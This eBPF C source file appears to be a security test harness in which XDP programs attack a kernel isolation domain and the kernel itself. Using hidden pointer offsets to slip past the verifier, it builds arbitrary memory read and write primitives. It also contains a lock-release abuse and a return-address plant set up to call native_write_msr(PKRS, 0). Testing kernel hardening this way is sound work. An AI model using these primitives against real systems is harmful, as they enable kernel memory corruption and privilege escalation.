// SPDX-License-Identifier: GPL-2.0
/*
 * Programs of one domain that attack each other, and the kernel through each
 * other, from different CPUs. `spray` writes wherever it is sent; `guess` reads
 * and `unlock` unlocks there. The others are prey: each does what makes the
 * kernel read something back from memory that the domain writes, and makes the
 * most of it if the kernel believes what it reads: an event's frame, a return
 * address, a context, saved registers, arguments. Each looks at its order, if
 * only to share a map: that is what makes them one domain.
 */
#include "breach.bpf.h"
#include <linux/tcp.h>

/* One for each attacker: the first byte of the packet says which. */
struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, MAX_SPRAYS);
	__type(key, __u32);
	__type(value, struct spray);
} sprays SEC(".maps");

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, struct prey);
} preys SEC(".maps");

/*
 * As often as the runner says. The verifier sees two rounds, neither the last
 * for certain: of fewer it would cut the way back out of the program.
 */
#define ROUNDS(of) \
	for (__s64 left = -(__s64)lost(*(volatile __u64 *)&(of)->rounds); left < 2; left++)

/* The word is there, or it is not: for finding out what is mapped. */
SEC("xdp") int probe(struct xdp_md *ctx)
{
	struct order *o = take_order();
	__u32 key = 0;
	void *p = bpf_map_lookup_elem(&array, &key);

	if (!o || !p)
		return XDP_DROP;
	return survived(o, *(volatile __u64 *)astray(o, p));
}

static __always_inline struct spray *take_spray(struct xdp_md *ctx)
{
	__u8 *who = packet_at(ctx, 0, 1);
	__u32 key = who ? *who : 0;

	return bpf_map_lookup_elem(&sprays, &key);
}

SEC("xdp") int spray(struct xdp_md *ctx)
{
	struct spray *s = take_spray(ctx);
	__u64 delta, from, to, *p;

	if (!s || !take_order())
		return XDP_DROP;
	p = s->room;
	*(volatile __u64 *)&s->base = (__u64)(long)p;
	delta = lost(*(volatile __u64 *)&s->target - *(volatile __u64 *)&s->base);
	asm volatile("%0 += %1" : "+r"(p) : "r"(delta));
	from = lost(*(volatile __u64 *)&s->words_mask);
	to = lost(*(volatile __u64 *)&s->place_mask);
	ROUNDS(s)
		((volatile __u64 *)p)[left & to] = ((volatile __u64 *)s->words)[left & from];
	*(volatile __u64 *)&s->done = 1;
	return XDP_PASS;
}

/*
 * Puts words above its frame pointer, where a call would have left a return
 * address, and turns round with the arguments of native_write_msr(PKRS, 0) in
 * the registers that hold them.
 */
SEC("xdp") int prey(struct xdp_md *ctx)
{
	__u32 key = 0;
	struct prey *v = bpf_map_lookup_elem(&preys, &key);
	__u64 slot = 0, *p = &slot, delta, n;

	if (!v || !take_order())
		return XDP_DROP;
	*(volatile __u64 *)&v->slot = (__u64)(long)p;
	for (int i = 0; i < PREY_WORDS; i++) {
		delta = lost(*(volatile __u64 *)&v->offset + i * 8);
		p = &slot;
		asm volatile("%0 += %1" : "+r"(p) : "r"(delta));
		if (*(volatile __u64 *)&v->words[i])
			*(volatile __u64 *)p = *(volatile __u64 *)&v->words[i];
	}
	n = lost(*(volatile __u64 *)&v->rounds);
	n += packet_size(ctx) & 1;
	if (n)
		asm volatile("r1 = 0x6e1\n"
			     "r2 = 0\n"
			     "r3 = 0\n"
			     "1: %0 += -1\n"
			     "if %0 != 0 goto 1b\n"
			     : "+r"(n)
			     :
			     : "r1", "r2", "r3");
	*(volatile __u64 *)&v->done = 1;
	return XDP_PASS;
}

/* The distance to a target of the runner's: 0 to the verifier. */
static __always_inline __u64 distance(__u64 *base, const __u64 *target, void *p)
{
	*(volatile __u64 *)base = (__u64)(long)p;
	return lost(*(volatile __u64 *)target - *(volatile __u64 *)base);
}

#define MOVE(p, base, target) \
	do { \
		__u64 delta = distance(base, target, p); \
		asm volatile("%0 += %1" : "+r"(p) : "r"(delta)); \
	} while (0)

static __always_inline struct prey *take_prey(void)
{
	__u32 key = 0;
	struct prey *v = bpf_map_lookup_elem(&preys, &key);
	__u64 slot = 0, *p = &slot;

	if (!v || !take_order())
		return NULL;
	*(volatile __u64 *)&v->self = (__u64)(long)v;
	*(volatile __u64 *)&v->slot = (__u64)(long)p;
	return v;
}

static __always_inline void seen(struct prey *v, __u64 got)
{
	*(volatile __u64 *)&v->turns += 1;
	if (got != *(volatile __u64 *)&v->secret)
		return;
	*(volatile __u64 *)&v->wins += 1;
	*(volatile __u64 *)&v->got = got;
}

static __always_inline int over(struct prey *v)
{
	*(volatile __u64 *)&v->done = 1;
	return XDP_PASS;
}

/* Out of the domain and back, again and again. */
SEC("xdp") int caller(struct xdp_md *ctx)
{
	struct prey *v = take_prey();

	if (!v)
		return XDP_DROP;
	ROUNDS(v)
		seen(v, bpf_get_numa_node_id());
	return over(v);
}

/* Waits for its flags, and then reads what only one of them opens: user memory. */
SEC("xdp") int reader(struct xdp_md *ctx)
{
	struct prey *v = take_prey();
	__u64 *p, n;

	if (!v)
		return XDP_DROP;
	p = v->words;
	n = lost(*(volatile __u64 *)&v->rounds);
	n += packet_size(ctx) & 1;
	if (n)
		asm volatile("1: %0 += -1\n"
			     "if %0 != 0 goto 1b\n"
			     : "+r"(n));
	MOVE(p, &v->base, &v->target);
	seen(v, *(volatile __u64 *)p);
	return over(v);
}

/* Has the kernel use its context. */
SEC("xdp") int loader(struct xdp_md *ctx)
{
	struct prey *v = take_prey();

	/* Who looks at the packet gets one. */
	if (!v || !packet_at(ctx, 0, 1))
		return XDP_DROP;
	*(volatile __u64 *)&v->context = (__u64)(long)ctx;
	ROUNDS(v) {
		__u64 got = 0;

		bpf_xdp_load_bytes(ctx, 0, &got, sizeof(got));
		seen(v, got);
	}
	return over(v);
}

/* Reads what it was lent, by way of a register that an event's stub saves. */
SEC("xdp") int borrower(struct xdp_md *ctx)
{
	struct prey *v = take_prey();
	__u32 key = 0;
	__u64 got, *p = bpf_map_lookup_elem(&hash, &key);

	if (!v || !p)
		return XDP_DROP;
	*(volatile __u64 *)&v->base = (__u64)(long)p;
	ROUNDS(v) {
		asm volatile("r0 = %1\n"
			     "%0 = *(u64 *)(r0 + 0)\n"
			     : "=r"(got)
			     : "r"(p)
			     : "r0");
		seen(v, got);
	}
	return over(v);
}

/* Has the kernel read a format that others write, with an address for a number. */
SEC("xdp") int printer(struct xdp_md *ctx)
{
	struct prey *v = take_prey();

	if (!v)
		return XDP_DROP;
	ROUNDS(v) {
		bpf_trace_printk((char *)v->bytes, 8, *(volatile __u64 *)&v->target);
		seen(v, 0);
	}
	return over(v);
}

struct edge {
	__u8 bytes[EDGE_BYTES];
};

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, struct edge);
} edges SEC(".maps");

/*
 * Calls of every sort: numbers, one that never leaves the domain, memory. Then
 * waits, with a number in r9 that a helper has left there: what a stub puts
 * there is the offset of a site.
 */
SEC("xdp") int mixer(struct xdp_md *ctx)
{
	struct prey *v = take_prey();
	__u32 key = 0;
	struct edge *e = bpf_map_lookup_elem(&edges, &key);

	if (!v || !e)
		return XDP_DROP;
	ROUNDS(v) {
		__u64 size = lost(*(volatile __u64 *)&v->offset), n;

		asm volatile("%0 += 8" : "+r"(size));
		seen(v, bpf_get_smp_processor_id() + bpf_get_numa_node_id());
		seen(v, bpf_strncmp((char *)v->bytes, 16, "AAAA"));
		seen(v, bpf_csum_diff((__be32 *)e->bytes, size, NULL, 0, 0));
		for (n = -lost(20000); (__s64)n < 2; n++)
			opaque(n);
	}
	return over(v);
}

const char constant[] = "AAAAAAAAAAAAAAAA";

/*
 * Has the kernel compare a string whose end others take away and put back.
 * The string lies at the end of a page; as many bytes as there are, or more.
 */
SEC("xdp") int comparer(struct xdp_md *ctx)
{
	struct prey *v = take_prey();
	const char *p = constant;
	__u32 key = 0;
	struct edge *e = bpf_map_lookup_elem(&edges, &key);

	if (!v || !e)
		return XDP_DROP;
	/* The runner counts from the edge. */
	*(volatile __u64 *)&v->context = (__u64)(long)e;
	*(volatile __u64 *)&v->base = (__u64)(long)p;
	ROUNDS(v) {
		__u64 to = *(volatile __u64 *)&v->target + *(volatile __u64 *)&v->context;
		__u64 size = lost(*(volatile __u64 *)&v->offset);
		const char *q = p;
		__u64 delta = lost(to - *(volatile __u64 *)&v->base);

		asm volatile("%0 += %1" : "+r"(q) : "r"(delta));
		asm volatile("%0 += 16" : "+r"(size));
		/* 0 is the secret: all of them were compared. */
		seen(v, bpf_strncmp((char *)v->bytes, size, q));
	}
	return over(v);
}

/* Has the kernel read a header whose length others change. */
SEC("xdp") int answerer(struct xdp_md *ctx)
{
	struct prey *v = take_prey();
	__u32 key = 0;
	struct edge *e = bpf_map_lookup_elem(&edges, &key);
	struct iphdr ip = {};

	if (!v || !e)
		return XDP_DROP;
	*(volatile __u64 *)&v->context = (__u64)(long)e;
	ROUNDS(v) {
		struct tcphdr *th = (void *)e->bytes;
		__u64 delta = lost(*(volatile __u64 *)&v->target);
		__s64 cookie;

		asm volatile("%0 += %1" : "+r"(th) : "r"(delta));
		cookie = bpf_tcp_raw_gen_syncookie_ipv4(&ip, th, sizeof(*th));
		/* The segment size, of which the 20 bytes of the call say nothing. */
		seen(v, cookie >> 32);
	}
	return over(v);
}

struct {
	__uint(type, BPF_MAP_TYPE_LPM_TRIE);
	__uint(map_flags, BPF_F_NO_PREALLOC);
	__uint(max_entries, 1 << 20);	/* too large for a store, which would copy keys itself */
	__uint(key_size, 8);
	__uint(value_size, 8);
} trie SEC(".maps");

/* Has the kernel read a key whose length others change. */
SEC("xdp") int router(struct xdp_md *ctx)
{
	struct prey *v = take_prey();
	__u64 value = 1;

	if (!v)
		return XDP_DROP;
	ROUNDS(v)
		seen(v, bpf_map_update_elem(&trie, v->bytes, &value, BPF_ANY));
	return over(v);
}

struct {
	__uint(type, BPF_MAP_TYPE_LRU_HASH);
	__uint(max_entries, 20000);
	__uint(key_size, 4);
	__uint(value_size, RECENT_BYTES);
} recent SEC(".maps");

/* Has the kernel read what programs note of their look-ups: each new key needs room. */
SEC("xdp") int forgetter(struct xdp_md *ctx)
{
	struct prey *v = take_prey();
	__u64 value[RECENT_BYTES / 8] = {};

	if (!v)
		return XDP_DROP;
	ROUNDS(v) {
		__u32 key = left;

		seen(v, bpf_map_update_elem(&recent, &key, value, BPF_ANY));
	}
	return over(v);
}

struct {
	__uint(type, BPF_MAP_TYPE_LPM_TRIE);
	__uint(map_flags, BPF_F_NO_PREALLOC);
	__uint(max_entries, 64);
	__uint(key_size, 8);
	__uint(value_size, 8);
} routes SEC(".maps");

/* Looks a route up itself, by nodes and keys that the kernel goes by, too. */
SEC("xdp") int finder(struct xdp_md *ctx)
{
	struct prey *v = take_prey();

	if (!v)
		return XDP_DROP;
	ROUNDS(v) {
		__u64 *route = bpf_map_lookup_elem(&routes, v->bytes);

		if (route)
			seen(v, *route);
	}
	return over(v);
}

/* Reads as if from a loan of its own, wherever it is sent. */
SEC("xdp") int guess(struct xdp_md *ctx)
{
	struct spray *s = take_spray(ctx);
	__u32 key = 1;
	__u64 *p = bpf_map_lookup_elem(&hash, &key);

	if (!s || !p || !take_order())
		return XDP_DROP;
	MOVE(p, &s->base, &s->target);
	*(volatile __u64 *)&s->got = *(volatile __u64 *)p;
	*(volatile __u64 *)&s->done = 1;
	return XDP_PASS;
}

struct locked {
	__u64 word;
	struct bpf_spin_lock lock;
};

/* Not preallocated: an element that is used again keeps its lock as it was. */
struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(map_flags, BPF_F_NO_PREALLOC);
	__uint(max_entries, 16);
	__type(key, __u32);
	__type(value, struct locked);
} locks SEC(".maps");

/* Gives back a lock that it did not take. */
SEC("xdp") int unlock(struct xdp_md *ctx)
{
	struct spray *s = take_spray(ctx);
	__u8 *who = packet_at(ctx, 0, 1);
	__u32 key = who ? *who : 0;
	struct locked *mine = bpf_map_lookup_elem(&locks, &key);
	struct bpf_spin_lock *lock;

	if (!s || !mine || !take_order())
		return XDP_DROP;
	lock = &mine->lock;
	MOVE(lock, &s->base, &s->target);
	bpf_spin_lock(&mine->lock);
	bpf_spin_unlock(lock);
	*(volatile __u64 *)&s->done = 1;
	return XDP_PASS;
}

char _license[] SEC("license") = "GPL";
